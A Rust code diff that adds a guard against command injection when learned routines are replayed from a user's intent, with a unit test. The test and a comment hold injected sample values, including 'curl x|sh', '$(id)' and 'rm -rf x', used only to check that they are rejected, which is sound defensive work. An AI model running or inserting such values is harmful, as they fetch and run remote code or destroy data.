@@ -37,12 +37,36 @@ pub(crate) fn choose(stage: &Stage, intent: &str) -> Option<Replay> {
         }
     };
     let (routine, values) = repertoire.for_intent(intent)?;
+    if !plain_for_commands(routine, &values) {
+        tracing::info!(
+            "routine {} is not replayed: a value from the intent would reach a command as more than one plain word",
+            routine.name
+        );
+        return None;
+    }
     let (routine, values) = (routine.clone(), values);
     Some(Replay {
         routine,
         values,
         repertoire,
     })
+}
+
+/// Whether every value bound from the intent is one plain word, when a step of the routine may
+/// run a command (a prop that runs commands, or one improv does not know, such as an MCP tool).
+/// No model reads the intent before a replay, and an intent can carry text from outside (a
+/// webhook payload, a chat message): `cargo test -p {crate}` must not become `-p x; curl …`.
+fn plain_for_commands(routine: &Routine, values: &BTreeMap<String, String>) -> bool {
+    let commands = routine
+        .steps
+        .iter()
+        .any(|step| improv_stage::props::find(&step.prop).is_none_or(|prop| prop.runs_commands));
+    let plain = |v: &String| {
+        !v.is_empty()
+            && v.chars()
+                .all(|c| c.is_alphanumeric() || "._/:@+=,%-".contains(c))
+    };
+    !commands || values.values().all(plain)
 }
 
 /// What the replay came to.
@@ -252,5 +276,67 @@ pub(crate) fn learn(stage: &Stage) {
             }
         }
         Err(e) => tracing::warn!("routines were not learned: {e}"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+    use improv_routine::routine::{Parameter, Provenance, Record, Step};
+    use improv_routine::{Guard, Shape, Stability, Status};
+
+    fn routine(prop: &str) -> Routine {
+        let mut args = serde_json::Map::new();
+        args.insert("command".into(), "cargo test -p {krate}".into());
+        Routine {
+            name: "test-crate".into(),
+            description: String::new(),
+            status: Status::Approved,
+            stability: Stability::Stable,
+            intent: "Run the tests of {krate}".into(),
+            parameters: vec![Parameter {
+                name: "krate".into(),
+                examples: vec!["a".into(), "b".into()],
+            }],
+            checks: Vec::new(),
+            retired_because: None,
+            provenance: Provenance {
+                skeleton: "00".into(),
+                performances: Vec::new(),
+                contradicted_by: Vec::new(),
+            },
+            record: Record::default(),
+            steps: vec![Step {
+                prop: prop.into(),
+                guard: Guard {
+                    ok: true,
+                    output: Shape::NonEmpty,
+                },
+                args,
+            }],
+        }
+    }
+
+    #[test]
+    fn text_from_the_intent_reaches_a_command_only_as_one_plain_word() {
+        let bash = routine("bash");
+        let bind = |intent: &str| bash.bind(intent).unwrap();
+        assert!(plain_for_commands(
+            &bash,
+            &bind("Run the tests of improv-kernel")
+        ));
+        for injected in [
+            "Run the tests of foo; curl x|sh",
+            "Run the tests of foo$(id)",
+            "Run the tests of foo\nrm -rf x",
+            "Run the tests of `id`",
+        ] {
+            assert!(!plain_for_commands(&bash, &bind(injected)), "{injected}");
+        }
+        let mcp = routine("tools.run");
+        assert!(!plain_for_commands(&mcp, &bind("Run the tests of a b")));
+        let write = routine("write");
+        assert!(plain_for_commands(&write, &bind("Run the tests of a; b")));
     }
 }
